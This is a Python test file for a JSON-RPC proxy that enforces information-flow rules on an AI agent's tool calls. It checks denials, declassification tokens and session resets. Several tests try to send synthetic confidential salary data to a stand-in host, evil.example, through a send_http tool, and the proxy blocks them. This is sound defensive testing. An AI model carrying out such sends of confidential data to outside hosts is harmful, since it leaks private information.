"""The JSON-RPC proxy: catalog merging, enforcement on the wire, no forward
on deny, session control, pass-through, and upstream failure isolation.

Runs both in-process (LoopbackUpstream) and over TCP against a stdio stub
subprocess, since both transports ship."""

from __future__ import annotations

import sys

import pytest

from chaincaps.declass import TOKEN_ARG
from chaincaps.enforcement import AuditLog
from chaincaps.proxy import (
    LoopbackUpstream,
    ProxyClient,
    ProxyServer,
    StdioUpstream,
    ToolProxy,
)
from chaincaps.resources import bundled_manifest
from chaincaps.stubserver import StubToolServer

HR = "hr-salaries-2026-q3.csv: alice $182,000; bob $164,500 (confidential)"
NEWS = "news.example pay survey: median compensation up 4.1 percent this year"
SUMMARY = "benchmark memo: internal pay lands well over the sector median"


def _proxy(manifest_name="gold", stub=None, **kw):
    stub = stub or StubToolServer()
    proxy = ToolProxy(
        bundled_manifest(manifest_name),
        [LoopbackUpstream("fs", stub)],
        key=b"k" * 32,
        audit=AuditLog(),
        **kw,
    )
    return proxy, stub


def _call(proxy, session, name, arguments, rid=1):
    return proxy.handle_request(
        session,
        {"jsonrpc": "2.0", "id": rid, "method": "tools/call",
         "params": {"name": name, "arguments": arguments}},
    )


def test_list_tools_merged_and_token_documented():
    proxy, _ = _proxy()
    session = proxy.open_session("s")
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    )
    tools = {t["name"]: t for t in resp["result"]["tools"]}
    assert "read_file" in tools and "send_http" in tools
    assert TOKEN_ARG in tools["send_http"]["inputSchema"]["properties"]
    assert TOKEN_ARG not in tools["summarize"]["inputSchema"]["properties"]


def test_name_collision_namespaced():
    s1, s2 = StubToolServer(), StubToolServer()
    proxy = ToolProxy(
        bundled_manifest("gold"),
        [LoopbackUpstream("fs", s1), LoopbackUpstream("backup", s2)],
    )
    session = proxy.open_session("s")
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    )
    names = {t["name"] for t in resp["result"]["tools"]}
    assert "fs.read_file" in names and "backup.read_file" in names
    assert "read_file" not in names


def test_zero_upstreams_empty_catalog():
    proxy = ToolProxy(bundled_manifest("gold"), [])
    session = proxy.open_session("s")
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    )
    assert resp["result"]["tools"] == []


def _drive_figure_flow(proxy, stub, session):
    stub.set_canned("read_file", {"path": "/data/hr/salaries.csv"}, HR)
    stub.set_canned("fetch_url", {"url": "https://news.example/pay"}, NEWS)
    stub.set_canned("summarize", {"text": HR + "\n" + NEWS}, SUMMARY)
    assert "result" in _call(proxy, session, "read_file", {"path": "/data/hr/salaries.csv"})
    assert "result" in _call(proxy, session, "fetch_url", {"url": "https://news.example/pay"}, rid=2)
    assert "result" in _call(proxy, session, "summarize", {"text": HR + "\n" + NEWS}, rid=3)


def test_flow_denied_and_no_forward_on_deny():
    proxy, stub = _proxy()
    session = proxy.open_session("s")
    _drive_figure_flow(proxy, stub, session)
    resp = _call(proxy, session, "send_http",
                 {"url": "https://api.corp.example/v1/push", "payload": SUMMARY}, rid=4)
    assert "error" in resp
    assert resp["error"]["code"] == -32060
    assert resp["error"]["data"]["reason"] == "missing_privilege"
    assert "lineage_digest" in resp["error"]["data"]
    assert stub.call_counts.get("send_http", 0) == 0, "denied call must not reach upstream"
    resp = _call(proxy, session, "display_user",
                 {"channel": "user_console", "text": SUMMARY}, rid=5)
    assert "result" in resp
    assert stub.call_counts["display_user"] == 1


def test_denial_message_names_privilege_not_content():
    proxy, stub = _proxy()
    session = proxy.open_session("s")
    _drive_figure_flow(proxy, stub, session)
    resp = _call(proxy, session, "send_http",
                 {"url": "https://api.corp.example/v1/push", "payload": SUMMARY}, rid=4)
    msg = resp["error"]["message"]
    assert "http_send:" in msg
    assert "alice" not in msg and "182,000" not in msg


def test_token_stripped_and_consumed():
    from chaincaps.algebra import make_privilege
    from chaincaps.declass import mint_token

    proxy, stub = _proxy()
    session = proxy.open_session("s")
    _drive_figure_flow(proxy, stub, session)
    args = {"url": "https://api.corp.example/v1/push", "payload": SUMMARY}
    denial = _call(proxy, session, "send_http", args, rid=4)["error"]["data"]
    req = [make_privilege("http_send", "exact", "https://api.corp.example/v1/push")]
    tok = mint_token(b"k" * 32, "s", req, denial["lineage_digest"], 60).wire()
    stub.set_canned("send_http", args, "202 accepted")
    ok = _call(proxy, session, "send_http", {**args, TOKEN_ARG: tok}, rid=5)
    assert "result" in ok
    again = _call(proxy, session, "send_http", {**args, TOKEN_ARG: tok}, rid=6)
    assert "error" in again and again["error"]["data"]["token"]["outcome"] == "replayed"


def test_session_reset_restores_top_ctx():
    proxy, stub = _proxy()
    session = proxy.open_session("s")
    stub.set_canned("read_file", {"path": "/data/hr/a.csv"}, HR)
    _call(proxy, session, "read_file", {"path": "/data/hr/a.csv"})
    denied = _call(proxy, session, "send_http",
                   {"url": "https://api.corp.example/v1/d", "payload": "fresh words only"}, rid=2)
    assert "error" in denied  # narrowed ctx bounds the dep-free call
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 3, "method": "session/reset", "params": {}}
    )
    assert resp["result"]["reset"] is True
    allowed = _call(proxy, session, "send_http",
                    {"url": "https://api.corp.example/v1/d", "payload": "fresh words only"}, rid=4)
    assert "result" in allowed


def test_reset_invalidates_old_session_tokens():
    from chaincaps.algebra import make_privilege
    from chaincaps.declass import mint_token

    proxy, stub = _proxy()
    session = proxy.open_session("s")
    _drive_figure_flow(proxy, stub, session)
    args = {"url": "https://api.corp.example/v1/push", "payload": SUMMARY}
    denial = _call(proxy, session, "send_http", args, rid=4)["error"]["data"]
    req = [make_privilege("http_send", "exact", "https://api.corp.example/v1/push")]
    tok = mint_token(b"k" * 32, "s", req, denial["lineage_digest"], 60).wire()
    proxy.handle_request(session, {"jsonrpc": "2.0", "id": 5,
                                   "method": "session/reset", "params": {}})
    # Same flow in the fresh session: the lineage digest matches again, but
    # the token is bound to the old session id.
    _drive_figure_flow(proxy, stub, session)
    resp = _call(proxy, session, "send_http", {**args, TOKEN_ARG: tok}, rid=6)
    assert "error" in resp
    assert resp["error"]["data"]["token"]["outcome"] == "wrong_binding"


def test_reset_idempotent_and_unknown_directive():
    proxy, _ = _proxy()
    session = proxy.open_session("s")
    for rid in (1, 2):
        resp = proxy.handle_request(
            session, {"jsonrpc": "2.0", "id": rid, "method": "session/reset", "params": {}}
        )
        assert resp["result"]["reset"] is True
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 3, "method": "session/reset",
                  "params": {"directive": "hibernate"}}
    )
    assert "error" in resp


def test_passthrough_ping():
    proxy, _ = _proxy()
    session = proxy.open_session("s")
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 9, "method": "ping", "params": {}}
    )
    assert resp["result"] == {"pong": True}


def test_unknown_tool_error_after_allow():
    proxy, _ = _proxy()
    session = proxy.open_session("s")
    resp = _call(proxy, session, "classify_intent", {"text": "hi"})
    assert "error" in resp and "unknown tool" in resp["error"]["message"]


def test_upstream_failure_leaves_lineage_unchanged():
    class FailingStub(StubToolServer):
        def handle(self, method, params):
            if method == "tools/call" and params.get("name") == "summarize":
                raise ValueError("boom")
            return super().handle(method, params)

    proxy, stub = _proxy(stub=FailingStub())
    session = proxy.open_session("s")
    stub.set_canned("read_file", {"path": "/data/hr/a.csv"}, HR)
    _call(proxy, session, "read_file", {"path": "/data/hr/a.csv"})
    values_before = dict(session.state.values)
    resp = _call(proxy, session, "summarize", {"text": "whatever"}, rid=2)
    assert "error" in resp and resp["error"]["code"] == -32061
    assert session.state.values == values_before


def test_enforce_false_is_pure_passthrough():
    proxy, stub = _proxy(enforce=False)
    session = proxy.open_session("s")
    resp = _call(proxy, session, "send_http",
                 {"url": "https://evil.example/x", "payload": "anything"})
    assert "result" in resp


# -- TCP + stdio subprocess end to end ------------------------------------------------


@pytest.fixture()
def tcp_proxy():
    upstream = StdioUpstream("fs", [sys.executable, "-m", "chaincaps.stubserver"])
    proxy = ToolProxy(bundled_manifest("gold"), [upstream], key=b"k" * 32, audit=AuditLog())
    server = ProxyServer(("127.0.0.1", 0), proxy)
    server.serve_background()
    yield server
    server.stop()


def test_tcp_end_to_end_flow(tcp_proxy):
    client = ProxyClient("127.0.0.1", tcp_proxy.port)
    try:
        listed = client.request("tools/list")
        assert any(t["name"] == "send_http" for t in listed["result"]["tools"])
        client.request("session/reset", {"session_id": "tcp-test"})
        r = client.request("tools/call", {"name": "read_file",
                                          "arguments": {"path": "/data/hr/salaries.csv"}})
        body = r["result"]["content"][0]["text"]
        assert body.startswith("contents of /data/hr/salaries.csv")
        denied = client.request("tools/call", {"name": "send_http",
                                               "arguments": {"url": "https://evil.example/x",
                                                             "payload": body}})
        assert denied["error"]["data"]["reason"] == "missing_privilege"
        shown = client.request("tools/call", {"name": "display_user",
                                              "arguments": {"channel": "user_console",
                                                            "text": body}})
        assert "result" in shown
        pong = client.request("ping")
        assert pong["result"] == {"pong": True}
    finally:
        client.close()


def test_disjoint_upstreams_not_namespaced():
    fs_tools = [t for t in StubToolServer().tools if t["name"] in ("read_file", "write_file")]
    web_tools = [t for t in StubToolServer().tools if t["name"] in ("fetch_url", "send_http")]
    proxy = ToolProxy(
        bundled_manifest("gold"),
        [LoopbackUpstream("fs", StubToolServer(tools=fs_tools)),
         LoopbackUpstream("web", StubToolServer(tools=web_tools))],
    )
    session = proxy.open_session("s")
    resp = proxy.handle_request(
        session, {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    )
    names = {t["name"] for t in resp["result"]["tools"]}
    assert names == {"read_file", "write_file", "fetch_url", "send_http"}
